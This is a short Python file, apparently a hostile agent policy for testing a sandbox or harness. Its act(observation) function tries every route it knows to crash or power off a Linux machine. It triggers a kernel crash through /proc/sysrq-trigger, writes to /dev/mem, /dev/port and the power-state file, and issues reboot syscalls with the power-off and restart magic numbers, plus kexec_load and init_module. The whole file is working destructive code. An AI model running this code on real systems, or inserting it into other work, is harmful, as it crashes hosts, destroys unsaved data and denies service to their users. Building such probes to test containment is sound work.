"""Crashes the kernel, or turns the machine off, in every way that it knows."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
SYS_REBOOT, SYS_KEXEC_LOAD, SYS_INIT_MODULE = 169, 246, 175


def act(observation):
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/panic", "/dev/mem", "/dev/port", "/sys/power/state"):
        try:
            with open(path, "w") as file:
                file.write("c")
            print("WROTE", path)
        except OSError:
            pass
    for command in (0x4321FEDC, 0x01234567):
        libc.syscall(SYS_REBOOT, 0xFEE1DEAD, 672274793, command, 0)
    libc.syscall(SYS_KEXEC_LOAD, 0, 0, 0, 0)
    libc.syscall(SYS_INIT_MODULE, 0, 0, 0)
    return 0.0
